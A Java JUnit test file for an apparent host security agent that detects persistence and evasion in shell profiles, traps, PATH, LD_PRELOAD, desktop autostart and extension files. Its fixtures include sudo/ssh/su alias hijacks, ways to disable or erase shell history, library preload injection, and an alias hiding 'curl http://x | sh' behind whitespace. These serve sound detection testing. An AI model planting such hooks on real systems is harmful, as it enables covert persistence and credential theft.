package bzh.vigie.agent.persistence.format;

import static bzh.vigie.agent.persistence.format.FormatsTest.file;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

import bzh.vigie.agent.host.HostPath;
import bzh.vigie.agent.persistence.format.Draft.Run;
import bzh.vigie.agent.persistence.format.Parsed.Include;
import bzh.vigie.agent.persistence.format.session.DesktopEntry;
import bzh.vigie.agent.persistence.format.session.Extension;
import bzh.vigie.agent.persistence.format.session.ShellProfile;
import bzh.vigie.agent.persistence.format.session.ShellTraps;
import bzh.vigie.agent.persistence.format.session.StartLines;
import bzh.vigie.agent.persistence.format.session.Variables;
import bzh.vigie.agent.persistence.format.tree.JsonText;
import bzh.vigie.agent.persistence.format.tree.Leaves;
import bzh.vigie.event.Item.Trait;
import java.time.Duration;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class SessionFormatsTest {
    @Test
    void ofAProfileThatDoesNothingUnusualOnlyItsContentIsTold() {
        assertEquals(List.of("x"), names(new ShellProfile(), """
                        # ~/.bashrc
                        case $- in *i*) ;; *) return;; esac
                        HISTSIZE=1000
                        [ -x /usr/bin/lesspipe ] && eval "$(SHELL=/bin/sh lesspipe)"
                        PS1='${debian_chroot:+($debian_chroot)}\\u@\\h:\\w\\$ '
                        alias ls='ls --color=auto'
                        alias grep='grep --color=auto'
                        alias ll='ls -alF'
                        if [ -f ~/.bash_aliases ]; then
                            . ~/.bash_aliases
                        fi
                        trap 'echo bye' EXIT
                        export LD_PRELOAD=/x
                        bind 'set completion-ignore-case on'
                        cat <<END
                        alias sudo=/tmp/sudo
                        END
                        """));
    }

    @Test
    void whatStandsInForACommandIsTold() {
        assertEquals(List.of("x", "alias sudo"), names(new ShellProfile(), "alias sudo='/tmp/s'\n"));
        assertEquals(List.of("x", "alias ls"), names(new ShellProfile(), "alias ls='ls; /tmp/s'\n"));
        assertEquals(List.of("x", "alias su"), names(new ShellProfile(), "alias -- su='read -s x'\n"));
        assertEquals(List.of("x", "alias sudo"), names(new ShellProfile(), "alias ll='ls -l' sudo='/tmp/s'\n"));
        assertTrue(names(new ShellProfile(), "[ -n \"$PS1\" ] && alias ssh='strace -o /tmp/l ssh'\n")
                .contains("alias ssh"));
        assertEquals(List.of("x"), names(new ShellProfile(), "alias ls='ls --color=auto' sudo='sudo '\n"));
        assertEquals(List.of("x", "function ssh"), names(new ShellProfile(), "ssh() { log \"$@\"; }\n"));
        assertEquals(List.of("x", "function su"), names(new ShellProfile(), "function su\n  log $argv\nend\n"));
        assertEquals(List.of("x"), names(new ShellProfile(), "mkcd() { mkdir -p \"$1\"; }\n"));
        assertEquals(List.of("x", "hook precmd"), names(new ShellProfile(), "precmd() { x; }\n"));
    }

    /** bash(1), HISTFILE, HISTSIZE and set; zshparam(1), SAVEHIST; ATT&CK T1562.003 and T1070.003. */
    @ParameterizedTest
    @ValueSource(
            strings = {
                "HISTFILE=/dev/null",
                "export HISTFILE='/dev/null'",
                "readonly HISTFILE=",
                "[ -n \"$SSH_TTY\" ] && unset HISTFILE",
                "unset HISTSIZE HISTFILE",
                "set +o history",
                "shopt -uo history",
                "export HISTSIZE=0 HISTFILESIZE=0",
                "SAVEHIST=0",
                "HISTIGNORE='*'",
                "setenv HISTFILE /dev/null",
                "set -gx fish_history \"\"",
                "history -c",
                "ln -sf /dev/null ~/.bash_history",
                "rm -f $HOME/.bash_history",
                "> ~/.zsh_history"
            })
    void aStartFileThatKeepsNoHistoryIsTold(String line) {
        assertEquals(List.of("x", "history off"), names(new ShellProfile(), line + "\n"));
    }

    /** As Debian's .bashrc, and as administrators and hardening guides have it. */
    @Test
    void settingsOfTheHistoryAreOrdinary() {
        assertEquals(List.of("x"), names(new ShellProfile(), """
                        HISTCONTROL=ignoreboth
                        shopt -s histappend
                        HISTSIZE=1000
                        HISTFILESIZE=2000
                        HISTSIZE=01000
                        export HISTTIMEFORMAT="%F %T "
                        HISTIGNORE='ls:*password*'
                        HISTFILE=~/.zsh_history
                        SAVEHIST=10000
                        set -o history
                        history -a
                        unset HISTFILESIZE
                        export MYSQL_HISTFILE=/dev/null
                        export LESSHISTFILE=/dev/null
                        # unset HISTFILE
                        """));
    }

    @Test
    void filesThatAreSourcedAreReadWhereTheirPathIsKnown() {
        String text = """
                [ -f ~/.a ] && . ~/.a
                source "$HOME/.b"
                if x; then . ${HOME}/.c; fi
                . $X/d
                . /e/*
                export ENV=/f
                ZDOTDIR=~/z
                """;
        assertEquals(List.of("~/.a", "~/.b", "~/.c", "/f", "~/z/.zshenv"), included("/home/alice/.bashrc", text));
        // homes are read for each account anyway
        assertEquals(List.of("/f"), included("/etc/profile", text));
    }

    private static List<String> included(String path, String text) {
        SourceFile file = file("x", text);
        return new ShellProfile()
                .parse(new SourceFile(HostPath.of(path), text, file.status(), file.link(), false)).includes().stream()
                        .map(Include::path)
                        .limit(5)
                        .toList();
    }

    @Test
    void aTrapIsToldUnlessItTakesOneAway() {
        assertEquals(List.of("trap EXIT", "trap DEBUG", "trap TRAPINT"), names(new ShellTraps(), """
                        trap 'x y' EXIT
                        trap - INT
                        trap '' HUP
                        trap -p
                        trap
                        echo trap x EXIT
                        if a; then trap -- f DEBUG; fi
                        TRAPINT() { z }
                        """));
    }

    @Test
    void aDirectoryBeforeTheSystemsIsToldAndOneBehindThemIsNot() {
        for (String before : List.of(
                "PATH=/x:$PATH",
                "export PATH=\"/usr/bin:/x:/bin\"",
                "PATH=.:/bin",
                "set path = (/x $path)",
                "fish_add_path /x",
                "setenv PATH /x:/bin",
                "PATH=:/usr/bin")) {
            assertEquals(List.of("PATH"), names(new Variables(), before + "\n"), before);
        }
        for (String behind : List.of(
                "PATH=$PATH:/x",
                "PATH=/usr/local/bin:/usr/bin:/bin:/usr/games",
                "export PATH",
                "MANPATH=/x:/usr",
                "PATH=")) {
            assertEquals(List.of(), names(new Variables(), behind + "\n"), behind);
        }
    }

    @Test
    void aVariableThatLoadsCodeIsToldHoweverItIsSet() {
        for (String line : List.of(
                "LD_PRELOAD=/x",
                "export LD_PRELOAD='/x'",
                "A=b; LD_PRELOAD=/x; export LD_PRELOAD",
                "declare -x LD_PRELOAD=/x",
                "setenv LD_PRELOAD /x",
                "set -gx LD_PRELOAD /x")) {
            List<Draft> drafts = new Variables().parse(file("x", line)).drafts();
            assertEquals(List.of("LD_PRELOAD"), drafts.stream().map(Draft::name).toList(), line);
            assertEquals(new Run.Path("/x"), drafts.getFirst().run(), line);
        }
        assertEquals(
                List.of("LD_AUDIT"),
                new Variables()
                                .parse(file("pam_env.conf", "LD_AUDIT DEFAULT=/x OVERRIDE=${Y}\nPWD DEFAULT=/\n"))
                                .drafts()
                                .stream()
                                .map(Draft::name)
                                .toList());
    }

    @Test
    void aDesktopEntryTellsWhetherItIsStarted() {
        String entry = "[Desktop Entry]\nType=Application\nExec=/bin/x %U\n";
        assertTrue(only(entry).enabled());
        assertFalse(only(entry + "Hidden=true\n").enabled());
        assertFalse(only(entry + "X-GNOME-Autostart-enabled=false\n").enabled());
        assertEquals(
                "/bin/x %U\nOnlyShowIn=KDE;", only(entry + "OnlyShowIn=KDE;\n").value());
    }

    private static Draft only(String entry) {
        List<Draft> drafts = new DesktopEntry().parse(file("a.desktop", entry)).drafts();
        assertEquals(1, drafts.size());
        return drafts.getFirst();
    }

    @Test
    void aProgramsStartFileTellsWhatItRunsInItsOwnLanguage() {
        assertEquals(
                List.of(".tmux.conf", "run-shell /x"),
                new StartLines()
                        .parse(file(".tmux.conf", "set -g mouse on\nrun-shell /x\n# run-shell /y\n")).drafts().stream()
                                .map(Draft::name)
                                .toList());
        assertEquals(
                1,
                new StartLines()
                        .parse(file(".vimrc", "\" call system('x')\nset nocompatible\nsyntax on\nlet a = 1 != 2\n"))
                        .drafts()
                        .size());
    }

    @Test
    void jsonIsReadUpToItsMistake() {
        Leaves json = JsonText.parse("{\"a\":{\"b\":[1,{\"c\":\"d\"}]},/* e */\"e\":tru");
        assertEquals(Optional.of("d"), json.value("/a/b/1/c"));
        assertEquals(List.of("/a/b/0", "/a/b/1"), json.below("/a/b"));
        assertEquals(1, json.malformed());
        assertEquals(1, JsonText.parse("[".repeat(100_000)).malformed());
        assertEquals(
                List.of("p.n"),
                new Extension()
                        .parse(file("package.json", "{\"name\":\"n\",\"publisher\":\"p\"}")).drafts().stream()
                                .map(Draft::name)
                                .toList());
    }

    @Test
    void manyAddOnsTakeTimeInProportionToTheirNumber() {
        String many = "{\"addons\":[" + "{\"id\":\"a\"},".repeat(60_000) + "{}]}";
        assertTimeoutPreemptively(
                Duration.ofMinutes(10),
                () -> assertTrue(new Extension()
                                .parse(file("extensions.json", many))
                                .drafts()
                                .size()
                        > 20_000));
    }

    @Test
    void whatBlanksPushOutOfSightIsSeen() {
        Draft alias = new ShellProfile()
                .parse(file(".bashrc", "alias ls='ls" + " ".repeat(40_000) + "; curl http://x | sh'\n"))
                .drafts()
                .get(1);
        assertTrue(alias.traits().contains(Trait.NETWORK_TOOL), alias.toString());
    }

    private static List<String> names(Format format, String text) {
        return format.parse(file("x", text)).drafts().stream()
                .filter(draft -> !draft.onlyUnowned())
                .map(Draft::name)
                .toList();
    }
}
